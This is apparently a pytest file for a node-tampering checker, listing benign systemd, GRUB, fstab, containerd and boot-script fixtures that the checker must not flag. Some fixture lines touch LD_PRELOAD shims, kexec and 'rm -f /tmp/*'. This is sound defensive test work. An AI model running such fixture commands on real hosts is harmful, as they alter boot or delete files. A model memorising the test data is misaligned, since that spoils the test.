    assert codes(change, tree) == {("fail", code)}


ORDINARY: dict[str, Change] = {
    "a variable that another one makes": file(
        POD, pod(more=variable("A", "b") + "    - name: C\n      value: $(A)$$(A)$(D)\n")
    ),
    "a configuration that systemd opens": service("OpenFile=/etc/x.conf:x:graceful\nExecStart=/usr/bin/true /dev/null"),
    "a device's socket": file("/etc/systemd/system/x.socket", "[Socket]\nListenSpecial=/dev/x\n"),
    "a variable that the unit sets itself": all_of(
        file("/etc/sysconfig/kubelet", "KUBELET_EXTRA_ARGS=\n"),
        file(GRUB, 'GRUB_CMDLINE_LINUX="fips=1 systemd.setenv=KUBELET_EXTRA_ARGS=--v=2 systemd.setenv=X=y"\n'),
        lambda t: t.drop_in("PassEnvironment=KUBELET_EXTRA_ARGS OTHER"),
    ),
    "a unit's output into a log": lambda t: t.drop_in("StandardOutput=append:/var/log/kubelet.log"),
    "another unit's output into a log": service("ExecStart=/usr/bin/true\nStandardOutput=append:/var/log/x.log"),
    "a variable of the shims": lambda t: t.add(CONFIGURATION, SHIMS.replace("LD_PRELOAD", "SCHED_CORE")),
    "variables of a user's systemd": boot("systemctl --user import-environment DISPLAY XAUTHORITY\n"),
    "a unit that a script enables": boot("systemctl enable --now kubelet\n"),
    "the listed sandbox": pause('[plugins.cri]\nsandbox_image = "registry.k8s.io/pause:3.4.1"\n'),
    "the sandbox by its digest": pause(f'[plugins.cri]\nsandbox_image = "m.example/p@{PAUSE}"\n'),
    "a sandbox, where the manifest lists none": file(CONFIGURATION, '[plugins.cri]\nsandbox_image = "o/pause:1"\n'),
    "an application's unit of Podman": file("/etc/containers/systemd/x.container", "[Container]\nImage=o/web:1\n"),
    "usual directories for libraries": all_of(
        file("/etc/ld.so.conf", "include ld.so.conf.d/*.conf\n"),
        file("/etc/ld.so.conf.d/a.conf", "# x\n/usr/lib64/mysql\n"),
        file("/etc/ld.so.conf.d/dyninst-x86_64.conf", "/usr/lib64/dyninst\n"),
    ),
    "libraries for some processors": file("/usr/lib64/glibc-hwcaps/x86-64-v3/libopenblas.so.0", "x"),
    "a network's file system": file("/etc/fstab", "# x\nu@h:/x /mnt fuse.sshfs _netdev 0 0 # y\n"),
    "a script that starts its own variables": all_of(
        lambda t: script(t, "/usr/bin/go", 'A=/usr/sbin/ip\n$A link\nexec "$@"\n'),
        lambda t: t.drop_in("ExecStartPre=/usr/bin/go"),
    ),
    "a log of what was started": all_of(
        file("/var/log/x.log", "LD_PRELOAD= kubelet\n/opt/plain/agent --v=2\n"),
        file("/etc/logrotate.d/x", "/var/log/x.log {\n weekly\n}\n"),
    ),
    "an application's script": go("$X/y\nexec /opt/$X/agent\n"),
    "another program of the initramfs": file(GRUB, 'GRUB_CMDLINE_LINUX="fips=1 rdinit=/start"\n'),
    "systemd as init": file(GRUB, 'GRUB_CMDLINE_LINUX="fips=1 init=/usr/lib/systemd/systemd"\n'),
    "a pod's usual PATH": file(POD, pod(more=variable("PATH", "/usr/local/sbin:/usr/local/bin"))),
    "an application's container": service("ExecStart=/usr/bin/podman run quay.io/prometheus/node-exporter:v1"),
    "images that are unpacked": service("ExecStart=/bin/sh -c 'ctr -n k8s.io images import /opt/images.tar'"),
    "a node's own disks": file("/etc/fstab", "/dev/a /var/lib/kubelet xfs\n/dev/b /var xfs defaults 0 0\n"),
    "a nodes' usual temporary files": file(
        TEMPORARY, "L+ /etc/mtab - - - - ../proc/self/mounts\nC /etc/pam.d - - - -\n"
    ),
    "options of an overlay": overlay("volatile"),
    "other rules": specification(json.dumps({"process": {"rlimits": []}, "Mounts": []})),
    "a script that enters a directory": all_of(
        lambda t: script(t, "/opt/plain/go", "cd /opt/plain\n./plain --check agent\nkubelet=1\n"),
        service("ExecStart=/opt/plain/go"),
    ),
    "a generator that links a unit": lambda t: script(
        t,
        "/usr/lib/systemd/system-generators/selinux-autorelabel-generator.sh",
        'unitdir="/usr/lib/systemd/system"\nln -sf "$unitdir/selinux-autorelabel.target" "$earlydir/default.target"\n',
    ),
    "commands that write nothing": boot(
        "mount -o remount,rw /\nmount --make-rshared /\ntar -czf /backup/x.tgz -C / etc\n"
        "tar czf /backup/y.tgz -C / etc\n"
        "rpm -q kubelet\nrpm -V kubelet\nyum list installed kubelet\ndnf install -y chrony\nkexec -p /boot/vmlinuz\n"
    ),
    "the vendor's units": all_of(
        service("ExecStart=systemctl --no-block switch-root /sysroot"),
        file("/usr/lib/systemd/system/systemd-sysext.service", "[Service]\nExecStart=systemd-sysext refresh\n"),
        file("/usr/lib/systemd/system/systemd-kexec.service", "[Service]\nExecStart=systemctl --force kexec\n"),
    ),
    "a backup of the configuration": file("/etc/cron.d/x", "1 1 * * * root cp -r /etc/kubernetes /backup\n"),
    "a shell that tests files": service("ExecStart=/bin/sh -c 'rm -f /tmp/*; [ -x /usr/bin/kubelet ]'"),
}


@pytest.mark.parametrize("how", ORDINARY)
def test_what_ordinary_nodes_have_passes(how: str, tree: Tree) -> None:
    assert codes(ORDINARY[how], tree) == set()


def test_a_script_that_several_run_levels_link_is_read_once(tree: Tree) -> None:
    script(tree, "/etc/rc.d/init.d/x", "/opt/plain/agent &\n")
    for level in range(7):
        link(tree, f"/etc/rc.d/rc{level}.d/S99x", "../init.d/x")

    assert tree.bad() == [("fail", "/etc/rc.d/init.d/x", "other-build")]
